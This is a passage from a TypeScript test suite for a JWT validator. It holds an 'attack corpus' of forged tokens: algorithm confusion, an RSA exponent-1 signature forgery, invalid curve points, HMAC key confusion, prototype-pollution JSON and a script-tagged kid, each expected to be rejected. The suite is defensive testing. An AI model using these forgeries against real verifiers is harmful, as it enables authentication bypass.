      options: { jwks: { keys: [publicJwk(rsa.publicKey, { kid: "rsa", alg: "ES256" })] } },
      expected: "ERR_JWKS_INVALID",
      expectedSync: "ERR_KEY_NOT_FOUND",
    },
    {
      category: "JWKS: RSA key for ES256",
      name: "an RSA key beside the issuer's: an ES256 token naming it",
      token: issued({}, head({ kid: "rsa" })),
      options: {
        jwks: { keys: [...issuer.jwks.keys, publicJwk(rsa.publicKey, { kid: "rsa" })] },
      },
      expected: "ERR_KEY_NOT_FOUND",
    },
    {
      category: "JWKS: RSA key for ES256",
      name: "an RS256 token signed by an RSA key of the set (RS256 not allowed)",
      token: forgeToken('{"alg":"RS256","kid":"rsa"}', goodJson, rsaSigner(rsa.privateKey)),
      options: {
        jwks: { keys: [...issuer.jwks.keys, publicJwk(rsa.publicKey, { kid: "rsa" })] },
      },
      expected: "ERR_ALG_NOT_ALLOWED",
    },
    {
      category: "JWKS: RSA key with e = 1",
      name: "RS256 allowed, an RSA key with public exponent 1: a token forged without any private key",
      token: forgeToken('{"alg":"RS256","kid":"e1"}', goodJson, (input) => pkcs1Sha256(input, 256)),
      options: { jwks: { keys: [rsaE1] }, algorithms: ["RS256"] },
      expected: "ERR_JWKS_INVALID",
      expectedSync: "ERR_KEY_NOT_FOUND",
    },
    ...(
      [
        [
          "a point not on the curve",
          {
            ...issuerPublicJwk,
            y: encodePart(
              Buffer.from(yBytes.map((byte, index) => (index === 31 ? byte ^ 1 : byte))),
            ),
          },
        ],
        [
          "the point (0, 0)",
          { ...issuerPublicJwk, x: encodePart(Buffer.alloc(32)), y: encodePart(Buffer.alloc(32)) },
        ],
        ["the issuer's point labelled P-384", { ...issuerPublicJwk, crv: "P-384" }],
        ["the issuer's point labelled kty RSA", { ...issuerPublicJwk, kty: "RSA" }],
        ["the issuer's key with use enc", { ...issuerPublicJwk, use: "enc" }],
        ["the issuer's key with key_ops [sign]", { ...issuerPublicJwk, key_ops: ["sign"] }],
        [
          'the issuer\'s key with key_ops "verify" (not an array)',
          { ...issuerPublicJwk, key_ops: "verify" },
        ],
        ["the issuer's key labelled alg ES384", { ...issuerPublicJwk, alg: "ES384" }],
        ["the issuer's key with a numeric kid", { ...issuerPublicJwk, kid: 1 }],
        [
          "an HMAC (oct) key",
          { kty: "oct", k: encodePart(JSON.stringify(issuerPublicJwk)), kid: issuerKid },
        ],
        ["an EdDSA key", publicJwk(generateKeyPairSync("ed25519").publicKey, { kid: issuerKid })],
      ] as [string, Record<string, unknown>][]
    ).map(
      ([label, jwk]): AttackCase => ({
        category: "JWKS: unusable key",
        name: `${label}, alone`,
        token: issued({}, head({ kid: issuerKid })),
        options: { jwks: { keys: [jwk] } },
        expected: "ERR_JWKS_INVALID",
        expectedSync: "ERR_KEY_NOT_FOUND",
      }),
    ),
    {
      // RFC 7518 §6.2.1.2 wants full-size coordinates; a leading zero byte still names the same
      // point of the trusted key set, so accepting it forges nothing. Tolerated, and pinned here.
      category: "JWKS: non-canonical key",
      name: "the issuer's x and y with a leading zero byte (33 bytes): the same point",
      token: issued({}, head({ kid: issuerKid })),
      options: {
        jwks: {
          keys: [
            {
              ...issuerPublicJwk,
              x: encodePart(Buffer.concat([Buffer.alloc(1), xBytes])),
              y: encodePart(Buffer.concat([Buffer.alloc(1), yBytes])),
            },
          ],
        },
      },
      expected: "VALID",
    },
    {
      category: "JWKS: from the network",
      name: "__proto__ in the fetched JSON: dropped, the keys load, nothing polluted",
      token: issued(),
      options: fetchedJwks(
        `{"__proto__":{"polluted":"yes"},"keys":[${JSON.stringify({ ...issuerPublicJwk, constructor: { prototype: { polluted: "yes" } } })}]}`,
      ),
      expected: "VALID",
    },
    {
      category: "JWKS: from the network",
      name: "keys only behind __proto__",
      token: issued(),
      options: fetchedJwks(`{"__proto__":{"keys":[${JSON.stringify(issuerPublicJwk)}]}}`),
      expected: "ERR_JWKS_INVALID",
      expectedSync: "ERR_KEY_NOT_FOUND",
    },
    {
      category: "JWKS: from the network",
      name: "the same key twice under one kid, and a duplicate keys member",
      token: issued({}, head({ kid: issuerKid })),
      options: fetchedJwks(
        `{"keys":[],"keys":[${JSON.stringify(issuerPublicJwk)},${JSON.stringify(issuerPublicJwk)}]}`,
      ),
      expected: "VALID",
    },
  ];
  return cases;
}

// ---------------------------------------------------------------------------------------------

async function outcomeOf(run: () => unknown): Promise<{ outcome: string; value?: unknown }> {
  try {
    const value = await run();
    return { outcome: "VALID", value };
  } catch (error) {
    if (isPicketValidationError(error)) return { outcome: error.code };
    const described = error instanceof Error ? `${error.name}: ${error.message}` : String(error);
    return { outcome: `THREW ${described.slice(0, 120)}` };
  }
}

function defaultOptions(extra: Partial<ValidatorOptions> = {}): ValidatorOptions {
  const options: ValidatorOptions = { projectId, clock, tokenCache: false, ...extra };
  if (extra.jwksUri === undefined && extra.jwks === undefined) options.jwks = issuer.jwks;
  return options;
}

function assertNoPollution(): void {
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  expect(({} as Record<string, unknown>).admin).toBeUndefined();
  expect(Object.getOwnPropertyNames(Object.prototype)).not.toContain("polluted");
  expect(Object.getOwnPropertyNames(Array.prototype)).not.toContain("polluted");
}

const CORPUS = corpus();

describe("attack corpus", () => {
  it("holds every category of attack it is meant to cover", () => {
    const categories = new Set(CORPUS.map((entry) => entry.category));
    for (const category of [
      "alg none",
      "HMAC key confusion",
      "kid injection",
      "kid type",
      "embedded key",
      "duplicate members",
      "prototype",
      "nesting",
      "size",
      "look-alike issuer",
      "aud array",
      "time claims",
      "JWKS: same kid twice",
      "JWKS: private key",
      "JWKS: RSA key for ES256",
      "JWKS: unusable key",
    ]) {
      expect(categories).toContain(category);
    }
    expect(CORPUS.length).toBeGreaterThan(150);
  });

  for (const entry of CORPUS) {
    it(`${entry.category}: ${entry.name} → ${entry.expected}`, async () => {
      const validator = createValidator(defaultOptions(entry.options));
      const viaAsync = await outcomeOf(() =>
        validator.validate(entry.token as string, entry.requirements),
      );
      await validator.ready().catch(() => undefined);
      const viaSync = await outcomeOf(() =>
        validator.validateSync(entry.token as string, entry.requirements),
      );
      expect({ validate: viaAsync.outcome, validateSync: viaSync.outcome }).toEqual({
        validate: entry.expected,
        validateSync: entry.expectedSync ?? entry.expected,
      });
      for (const result of [viaAsync, viaSync]) {
        if (result.outcome !== "VALID") continue;
        const claims = result.value as PicketAccessToken;
        // The claims never get an altered prototype, and are frozen.
        expect(Object.getPrototypeOf(claims)).toBe(Object.prototype);
        expect(Object.isFrozen(claims)).toBe(true);
        entry.check?.(claims);
      }
      assertNoPollution();
    });
  }

  it("error messages quote at most 64 characters of a hostile kid", async () => {
    const validator = createValidator(defaultOptions());
    const token = issued({}, head({ kid: `${"A".repeat(4000)}<script>` }));
    const { outcome } = await outcomeOf(() => validator.validate(token));
    expect(outcome).toBe("ERR_KEY_NOT_FOUND");
    const message = await validator.validate(token).then(
      () => "",
      (caught: unknown) => (caught as Error).message,
    );
    expect(message).toContain("A".repeat(60));
    expect(message).not.toContain("<script>");
    expect(message.length).toBeLessThan(200);
  });

  it("a hostile kid never reaches the key set URL: only the configured URI is fetched", async () => {
    const requested: string[] = [];
    let now = NOW_MS;
    const validator = createValidator({
      projectId,
      clock: () => now,
      jwksUri: "https://keys.example/.well-known/jwks.json",
      jwksCache: { cooldown: 1_000 },
      fetch: (async (input: RequestInfo | URL) => {
        requested.push(String(input));
        return new Response(JSON.stringify(issuer.jwks), {
          headers: { "content-type": "application/json" },
        });
      }) as typeof fetch,
    });
    for (const [, kid] of INJECTION_KIDS) {
      now += 1_000; // past the cooldown, so that each hostile kid may make its own request
      const { outcome } = await outcomeOf(() => validator.validate(issued({}, head({ kid }))));
      expect(outcome, JSON.stringify(kid)).toBe("ERR_KEY_NOT_FOUND");
    }
    expect(requested.length).toBeGreaterThan(1);
    expect(new Set(requested)).toEqual(new Set(["https://keys.example/.well-known/jwks.json"]));
  });

  it("HMAC algorithms cannot even be configured", () => {
    for (const alg of ["HS256", "HS384", "HS512", "none"]) {
      expect(() => createValidator({ projectId, jwks: issuer.jwks, algorithms: [alg] })).toThrow(
        TypeError,
      );
    }
  });
});
